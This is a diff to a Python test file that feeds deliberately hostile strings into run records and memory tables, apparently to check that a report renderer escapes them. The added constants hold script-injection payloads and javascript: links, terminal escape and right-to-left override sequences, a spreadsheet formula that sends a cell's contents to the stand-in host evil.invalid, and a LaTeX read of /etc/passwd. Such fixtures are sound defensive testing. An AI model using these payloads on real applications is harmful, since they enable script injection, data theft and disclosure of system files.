@@ -7,7 +7,12 @@ from run_folders import record, write_run
 SCRIPT = "</script><img src=x onerror=\"document.title='broken'\">"
 ATTRIBUTE = '"><svg onload="document.title=\'broken\'"></svg>'
 ODD = "zero​width ‮right-to-left  🦔 {{ 7 * 7 }} ${title} &amp; <!--"
-HOSTILE = (SCRIPT, ATTRIBUTE, ODD)
+LINK = "javascript:alert(1) <a href=javascript:alert(2)>x</a> [x](javascript:alert(3)) ![y](https://evil.invalid/y)"
+STEERS = (
+    "\x1b]0;owned\x07\x1b[2J\x9b31m\u2028\u2029\u2066\u202egpj.exe ${alert(4)} `x` <script>alert(5)</script> 'q' \"q\""
+)
+FORMULA = '=HYPERLINK("https://evil.invalid/?"&A1,"x")|+cmd|@SUM(1)\n-1+1\\|\t\\input{/etc/passwd} 100% $x$ #1 ~^_& \\'
+HOSTILE = (SCRIPT, ATTRIBUTE, ODD, LINK, STEERS, FORMULA)
 
 
 def item(dia_ids, rank, text="text", *, paths=("dense",), round=0, date="2023-05-08T13:56:00", score=0.5):
@@ -127,9 +132,9 @@ def hostile_collection(root):
     records.append(record("s1", 99, 1, error=SCRIPT, question=ATTRIBUTE))
     records += [answered(SCRIPT, number, 4, 1.0, None, question=text) for number, text in enumerate(HOSTILE)]
     folders = []
-    for number, name in enumerate((f"mem{SCRIPT}", ATTRIBUTE)):
+    for number, name in enumerate((f"mem{SCRIPT}", ATTRIBUTE, FORMULA, STEERS)):
         folder = write_run(root / f"run-{number}", records, memory=name, memory_options=OPTIONS | {"x": SCRIPT})
         for sample in ("s1",):
-            write_memory(folder, sample, memory_tables(SCRIPT + ATTRIBUTE + ODD))
+            write_memory(folder, sample, memory_tables("".join(HOSTILE)))
         folders.append(folder)
     return folders
